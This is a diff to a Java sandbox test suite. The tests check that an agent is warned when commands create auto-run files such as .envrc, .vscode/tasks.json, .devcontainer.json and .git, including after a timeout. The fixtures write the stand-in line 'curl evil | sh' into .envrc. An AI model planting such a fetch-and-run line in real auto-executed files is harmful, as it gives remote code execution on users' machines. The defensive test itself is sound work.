@@ -427,8 +427,12 @@ class SandboxTest {
 		JsonObject inSub = new JsonObject();
 		inSub.addProperty("command", "echo 'curl evil | sh' > .envrc");
 		inSub.addProperty("cwd", "sub");
+		// A command that fails (killed at its timeout) is told of what it created too.
+		JsonObject timedOut = new JsonObject();
+		timedOut.addProperty("command", "echo '{}' > .devcontainer.json; sleep 30");
+		timedOut.addProperty("timeout_seconds", 1);
 		List<String> told = run(session, command("echo 'curl evil | sh' > .envrc; echo plain > notes.txt; echo x > .vscode/tasks.json"),
-				inSub.toString(), command("echo changed > notes.txt"), command("git init -q"));
+				inSub.toString(), command("echo changed > notes.txt"), command("git init -q"), timedOut.toString());
 		assertThat(workspace.resolve(".envrc")).exists();
 		assertThat(sub.resolve(".envrc")).exists();
 		assertThat(workspace.resolve(".vscode/tasks.json")).as("an existing one stays read-only").doesNotExist();
@@ -438,6 +442,7 @@ class SandboxTest {
 		assertThat(told.get(2)).doesNotContain("Note:");
 		// A repository made now is told once, as its .git, not once more as its hooks.
 		assertThat(told.get(3)).contains("created .git, which git reads").doesNotContain(".git/hooks");
+		assertThat(told.get(4)).contains("timed out").contains("created .devcontainer.json, which dev containers run commands from");
 		assertThat(harness.updates(session)).filteredOn(ToolCallUpdate.class::isInstance).map(ToolCallUpdate.class::cast)
 				.filteredOn(update -> update.status() == ToolCallStatus.COMPLETED)
 				.filteredOn(update -> String.valueOf(update.content()).contains("the command created .envrc")).hasSize(1);
